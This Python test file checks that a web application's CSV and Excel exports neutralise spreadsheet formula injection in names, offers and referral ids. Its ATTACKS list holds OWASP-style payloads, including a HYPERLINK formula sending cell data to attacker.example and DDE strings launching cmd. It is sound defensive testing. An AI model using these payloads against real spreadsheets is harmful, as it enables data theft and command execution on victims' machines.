"""Every CSV and Excel download neutralises text a spreadsheet would run as a formula (OWASP CSV injection).

The attack strings are those of the security review (issue 15, finding 2) and OWASP's examples; each is
put where a person can type it (a waiting list's name, a local offer entry, a referral id) and then
read back out of every export that carries it.
"""

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from sendhub.core import exports
from sendhub.testing import factories as f

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click for your figures")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2]


def _safe_text(cell: str) -> bool:
    return not cell.startswith(exports.FORMULA_TRIGGERS)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_csv_is_safe(text: str, *, carries: list[str]) -> None:
    cells = _csv_cells(text)
    for cell in cells:
        if re.fullmatch(r"-?\d+(\.\d+)?", cell):
            continue  # a real number is written as a number
        assert _safe_text(cell), cell
    for attack in carries:
        assert "'" + attack in cells, attack


def _assert_xlsx_is_safe(data: bytes, *, carries: list[str]) -> None:
    book = load_workbook(io.BytesIO(data))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    seen.append(cell.value)
    for attack in carries:
        assert attack.replace("\r", "\n") in seen, attack  # kept as text (XML reads a carriage return as a newline)
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_cell_that_would_be_a_formula_gets_a_quote(attack):
    assert exports.csv_cell(attack) == "'" + attack
    assert exports.restore(exports.csv_cell(attack)) == attack


def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
    assert exports.csv_cell(-3) == -3 and exports.csv_cell(2.5) == 2.5
    assert exports.csv_cell(True) == "true" and exports.csv_cell(None) == ""
    assert exports.csv_cell("45.2%") == "45.2%" and exports.csv_cell("fewer than 5") == "fewer than 5"
    assert exports.csv_cell(date(2026, 12, 1)) == "2026-12-01"
    assert exports.csv_text([["-5", -5]]) == "'-5,-5\r\n"  # text that looks negative is still text
    assert exports.restore("'hello") == "'hello"  # only our own quoting is undone


def test_an_excel_file_has_no_formula_cells_and_keeps_numbers():
    data = exports.xlsx_bytes([("Sheet", [ATTACKS, [1, -2.5, "ok"]])])
    _assert_xlsx_is_safe(data, carries=ATTACKS)
    sheet = load_workbook(io.BytesIO(data))["Sheet"]
    assert [c.value for c in sheet[2]][:3] == [1, -2.5, "ok"] and sheet["B2"].data_type == "n"


def test_no_export_writes_csv_or_excel_any_other_way():
    """One writer: csv.writer, DictWriter and openpyxl appear only in core/exports.py (and tests)."""
    offenders = []
    for path in (ROOT / "sendhub").rglob("*.py"):
        if "tests" in path.parts or path.name == "exports.py":
            continue
        text = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(|openpyxl", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.mark.django_db
def test_dashboard_downloads_and_the_public_csv_neutralise_a_waiting_list_name(area, client_for):
    from sendhub.dashboard.services import refresh_snapshot

    for attack in ATTACKS:
        f.HealthServiceFactory(provider=area.provider, name=attack)
    refresh_snapshot(prerender=False)
    client = client_for(area.users["team_manager"])
    _assert_csv_is_safe(client.get("/dashboard/export.csv").content.decode(), carries=[])  # no lists in the CSV
    _assert_xlsx_is_safe(client.get("/dashboard/export.xlsx").content, carries=ATTACKS)
    _assert_csv_is_safe(Client().get("/dashboard/public/figures.csv").content.decode(), carries=ATTACKS)


@pytest.mark.django_db
def test_the_oruk_csv_export_neutralises_partner_text_and_loads_back_unchanged(client):
    from sendhub.directory import feeds
    from sendhub.directory.models import Service
    from sendhub.directory.tests.conftest import make_service

    make_service(name=ATTACKS[0], description=ATTACKS[3], phone="+44 1632 960001", eligibility=ATTACKS[2],
                 contact_name=ATTACKS[1])
    data = client.get("/local-offer/export/oruk-csv.zip").content
    archive = zipfile.ZipFile(io.BytesIO(data))
    services = archive.read("services.csv").decode()
    _assert_csv_is_safe(services, carries=[ATTACKS[0], ATTACKS[3], ATTACKS[2]])
    for name in archive.namelist():
        _assert_csv_is_safe(archive.read(name).decode(), carries=[])
    report = feeds.read_csv_zip(data, default_category="voluntary")
    assert not report.errors
    [row] = report.rows
    assert Service.objects.get().name == ATTACKS[0]
    assert row["content"]["name"] == ATTACKS[0] and row["content"]["phone"] == "+44 1632 960001"
    assert row["content"]["description"] == ATTACKS[3]


def test_the_waiting_list_estimates_csv_neutralises_ids_and_service_names(tmp_path):
    from sendhub.waits.command import run
    from sendhub.waits.history import Referral, history_csv, parse_history

    referrals = [Referral(f"{attack.strip()}{n}", attack.strip(), "routine", date(2026, 1, 5 + n), None, None)
                 for n, attack in enumerate(ATTACKS[:4])]
    text = history_csv(referrals)
    _assert_csv_is_safe(text, carries=[r.service for r in referrals])
    assert parse_history(io.StringIO(text), date(2026, 6, 1), source="x") == referrals  # loads back the same
    path = tmp_path / "history.csv"
    path.write_text(text)
    out, err = io.StringIO(), io.StringIO()
    assert run(["estimate", "--history", str(path), "--as-of", "2026-06-01"], out, err) == 0, err.getvalue()
    _assert_csv_is_safe(out.getvalue(), carries=[r.service for r in referrals])
